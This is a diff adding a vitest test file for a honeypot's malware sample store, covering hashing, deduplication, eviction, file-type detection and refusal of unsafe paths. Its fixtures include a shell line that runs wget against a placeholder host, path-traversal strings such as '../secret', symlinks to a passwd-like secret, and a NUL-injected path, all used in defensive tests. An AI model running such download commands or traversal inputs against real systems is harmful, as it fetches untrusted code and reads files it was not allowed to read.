@@ -1,0 +1,269 @@
+import { createHash } from 'node:crypto';
+import {
+  chmodSync,
+  existsSync,
+  linkSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
+import { join } from 'node:path';
+import { failureKind } from '@ihandler/core';
+import { describe, expect, it } from 'vitest';
+import { pathIn } from './sample-folder.ts';
+import { capture, sensorFolders, startStore, unique } from './test-support/sensor.ts';
+
+const sha256 = (content: string) => createHash('sha256').update(content).digest('hex');
+
+function filesBelow(folder: string): readonly string[] {
+  return readdirSync(folder, { recursive: true, withFileTypes: true })
+    .filter((entry) => entry.isFile())
+    .map(({ name }) => name);
+}
+
+describe('store', () => {
+  it('keeps a sample by its SHA-256, read-only in a folder of its own, and reports it with all that is known', async () => {
+    const { binaries, dataDir } = sensorFolders();
+    const { reports, write } = await startStore({ from: [binaries] }, dataDir);
+    const sample = capture(binaries, 'MZ evil');
+    await write([unique(1, sample)]);
+    const file = pathIn(join(dataDir, 'samples'), sha256('MZ evil'));
+    expect(readFileSync(file, 'utf8')).toBe('MZ evil');
+    expect(statSync(file).mode & 0o777).toBe(0o400);
+    expect(statSync(join(dataDir, 'samples')).mode & 0o777).toBe(0o700);
+    expect(reports).toEqual([
+      {
+        cause: 's:1',
+        sha256: sha256('MZ evil'),
+        sha1: createHash('sha1').update('MZ evil').digest('hex'),
+        md5: sample.md5,
+        size: 7,
+        type: expect.any(String),
+        file,
+        url: 'http://198.51.100.7/x',
+        connection: expect.objectContaining({ id: 'c1' }),
+      },
+    ]);
+  });
+
+  it('keeps what comes again once, and reports it once', async () => {
+    const { binaries, dataDir } = sensorFolders();
+    const { reports, write, handler } = await startStore({ from: [binaries] }, dataDir);
+    const sample = capture(binaries, 'again');
+    await write([unique(1, sample), unique(2, sample, { origin: 'dionaea.download.complete.again' })]);
+    await write([unique(3, sample)]);
+    expect(reports).toHaveLength(1);
+    expect(handler.counters?.()).toMatchObject({ stored: 1, known: 2, samples: 1, bytes: 5 });
+    expect(filesBelow(join(dataDir, 'samples'))).toEqual([sha256('again')]);
+  });
+
+  it('reports again, the same, what a crash made forgotten; and nothing of what brought no sample', async () => {
+    const { binaries, dataDir } = sensorFolders();
+    const sample = capture(binaries, 'crash');
+    const first = await startStore({ from: [binaries] }, dataDir);
+    await first.write([unique(1, sample), unique(2, sample)]);
+    await first.handler.close?.();
+    rmSync(sample.file);
+    const second = await startStore({ from: [binaries] }, dataDir);
+    expect(await second.handler.checkpoint?.()).toEqual({ s: 2 });
+    await second.write([unique(1, sample), unique(2, sample)], 'again');
+    expect(second.reports).toEqual(first.reports);
+  });
+
+  it('takes a copy that a crash left without its row as new', async () => {
+    const { binaries, dataDir } = sensorFolders();
+    const sample = capture(binaries, 'half done');
+    const file = pathIn(join(dataDir, 'samples'), sha256('half done'));
+    mkdirSync(join(file, '..'), { recursive: true });
+    writeFileSync(file, 'half done', { mode: 0o400 });
+    const { reports, write } = await startStore({ from: [binaries] }, dataDir);
+    await write([unique(1, sample)]);
+    expect(reports).toHaveLength(1);
+  });
+
+  it('writes a file anew that is shorter than it was', async () => {
+    const { binaries, dataDir } = sensorFolders();
+    const { write } = await startStore({ from: [binaries] }, dataDir);
+    const sample = capture(binaries, 'torn');
+    await write([unique(1, sample)]);
+    const file = pathIn(join(dataDir, 'samples'), sha256('torn'));
+    rmSync(file);
+    writeFileSync(file, 'to');
+    await write([unique(2, sample)]);
+    expect(readFileSync(file, 'utf8')).toBe('torn');
+  });
+
+  it('removes the drafts that a crash left', async () => {
+    const { binaries, dataDir } = sensorFolders();
+    mkdirSync(join(dataDir, 'samples', '.incoming'), { recursive: true });
+    writeFileSync(join(dataDir, 'samples', '.incoming', 'left'), 'x');
+    await startStore({ from: [binaries] }, dataDir);
+    expect(readdirSync(join(dataDir, 'samples', '.incoming'))).toEqual([]);
+  });
+
+  it('opens nothing for an incident that is not of this machine', async () => {
+    const { binaries, dataDir } = sensorFolders();
+    const { reports, write, handler } = await startStore({ from: [binaries] }, dataDir);
+    const sample = capture(binaries, 'remote');
+    await write([unique(1, sample, { local: false })]);
+    expect(reports).toEqual([]);
+    expect(handler.counters?.()).toMatchObject({ remote: 1, stored: 0 });
+    expect(await handler.checkpoint?.()).toEqual({ s: 1 });
+  });
+
+  it('lets the oldest go when there is no room, and keeps one again that comes again', async () => {
+    const { binaries, dataDir } = sensorFolders();
+    let now = 0;
+    const clock = { now: () => (now += 1) };
+    const { reports, write, handler } = await startStore(
+      { from: [binaries], maxTotal: '1kB' },
+      dataDir,
+      clock,
+    );
+    const [first, second, third] = ['a', 'b', 'c'].map((letter) => capture(binaries, letter.repeat(400)));
+    if (!first || !second || !third) throw new Error('three samples');
+    await write([unique(1, first)]);
+    await write([unique(2, second)]);
+    await write([unique(3, third)]);
+    expect(handler.counters?.()).toMatchObject({ evicted: 1, samples: 2, bytes: 800 });
+    const path = (letter: string) => pathIn(join(dataDir, 'samples'), sha256(letter.repeat(400)));
+    expect(['a', 'b', 'c'].map((letter) => existsSync(path(letter)))).toEqual([false, true, true]);
+    await write([unique(4, first)]);
+    expect(existsSync(path('a'))).toBe(true);
+    expect(reports).toHaveLength(3);
+  });
+
+  it('knows a portable executable, an ELF, a text and what is none of them', async () => {
+    const { binaries, dataDir } = sensorFolders();
+    const { reports, write } = await startStore({ from: [binaries] }, dataDir);
+    const contents = [
+      Buffer.from('4d5a90000300000004000000ffff0000', 'hex'),
+      Buffer.from('7f454c4602010100000000000000000002003e00', 'hex'),
+      Buffer.from('#!/bin/sh\nwget http://192.0.2.1/ö\n'),
+      Buffer.from([0, 1, 2, 255, 254]),
+      Buffer.alloc(0),
+    ];
+    await write(contents.map((content, at) => unique(at + 1, capture(binaries, content))));
+    expect(reports.map(({ type }) => type)).toEqual([
+      'application/x-msdownload',
+      'application/x-elf',
+      'text/plain',
+      'application/octet-stream',
+      'inode/x-empty',
+    ]);
+  });
+
+  it('forgets who brought a sample and keeps the sample', async () => {
+    const { binaries, dataDir } = sensorFolders();
+    const { write, handler } = await startStore({ from: [binaries] }, dataDir);
+    await write([unique(1, capture(binaries, 'whose'))]);
+    expect(await handler.forget?.((host) => host === '198.51.100.7')).toMatch(/of 1 samples/);
+    expect(readFileSync(join(dataDir, 'store.sqlite-wal'), 'latin1')).not.toBe('');
+    expect(filesBelow(join(dataDir, 'samples'))).toHaveLength(1);
+  });
+});
+
+describe('store refuses, for good and with the reason,', () => {
+  async function refusal(
+    make: (folders: ReturnType<typeof sensorFolders>) => string,
+    options: object = {},
+    md5 = 'none',
+  ): Promise<string> {
+    const folders = sensorFolders();
+    const { write, handler } = await startStore({ from: [folders.binaries], ...options }, folders.dataDir);
+    const file = make(folders);
+    const error: unknown = await write([unique(1, { file, md5 })]).catch((reason: unknown) => reason);
+    expect(failureKind(error)).toBe('permanent');
+    expect(await handler.checkpoint?.()).toEqual({});
+    expect(filesBelow(join(folders.dataDir, 'samples'))).toEqual([]);
+    return error instanceof Error ? error.message : '';
+  }
+
+  it('a link, wherever it leads', async () => {
+    expect(
+      await refusal(({ root, binaries }) => {
+        writeFileSync(join(root, 'secret'), 'root:x:0:0');
+        symlinkSync(join(root, 'secret'), join(binaries, 'link'));
+        return join(binaries, 'link');
+      }),
+    ).toMatch(/it is a link/);
+  });
+
+  it('a folder that is a link out of the allowed one', async () => {
+    expect(
+      await refusal(({ root, binaries }) => {
+        mkdirSync(join(root, 'outside'));
+        writeFileSync(join(root, 'outside', 'secret'), 'x');
+        symlinkSync(join(root, 'outside'), join(binaries, 'inside'));
+        return join(binaries, 'inside', 'secret');
+      }),
+    ).toMatch(/in none of the folders/);
+  });
+
+  it.each(['../secret', '..', 'a/../../secret', './../binaries2/secret'])('a path with %s', async (path) => {
+    expect(
+      await refusal(({ root, binaries }) => {
+        mkdirSync(join(root, 'binaries2'));
+        mkdirSync(join(binaries, 'a'));
+        for (const file of ['secret', 'binaries2/secret']) writeFileSync(join(root, file), 'x');
+        return `${binaries}/${path}`;
+      }),
+    ).toMatch(/in none of the folders/);
+  });
+
+  it('a relative path, and one with a NUL', async () => {
+    expect(await refusal(() => 'binaries/x')).toMatch(/expected an absolute path/);
+    expect(await refusal(({ binaries }) => `${binaries}/x\0y`)).toMatch(/expected an absolute path/);
+  });
+
+  it('a folder and a device', async () => {
+    expect(
+      await refusal(({ binaries }) => {
+        mkdirSync(join(binaries, 'folder'));
+        return join(binaries, 'folder');
+      }),
+    ).toMatch(/no regular file|cannot be read/);
+    expect(await refusal(() => '/dev/zero', { from: ['/dev'] })).toMatch(/no regular file/);
+  });
+
+  it('a sample that is gone before its turn', async () => {
+    expect(await refusal(({ binaries }) => join(binaries, 'gone'))).toMatch(/no such file/);
+  });
+
+  it('one that is too large, or that no room can be made for', async () => {
+    const large = ({ binaries }: { binaries: string }) => capture(binaries, 'x'.repeat(2000)).file;
+    expect(await refusal(large, { maxFile: '1kB' })).toMatch(/at most 1000 bytes, found 2000/);
+    expect(await refusal(large, { maxTotal: '1kB' })).toMatch(/may have 1000/);
+  });
+
+  it('another file than the one that was told of', async () => {
+    expect(await refusal(({ binaries }) => capture(binaries, 'other').file, {}, '0'.repeat(32))).toMatch(
+      /another file by now/,
+    );
+  });
+
+  it('is told how to grant what it may not read', async () => {
+    // Root may read everything: then there is nothing to refuse.
+    if (process.getuid?.() === 0) return expect(process.getuid()).toBe(0);
+    expect(
+      await refusal(({ binaries }) => {
+        const { file } = capture(binaries, 'x');
+        chmodSync(file, 0);
+        return file;
+      }),
+    ).toMatch(/setfacl/);
+  });
+
+  it('and takes a hard link, which is the file itself', async () => {
+    const { binaries, dataDir } = sensorFolders();
+    const { reports, write } = await startStore({ from: [binaries] }, dataDir);
+    const { file, md5 } = capture(binaries, 'linked');
+    linkSync(file, join(binaries, 'second'));
+    await write([unique(1, { file: join(binaries, 'second'), md5 })]);
+    expect(reports).toHaveLength(1);
+  });
+});
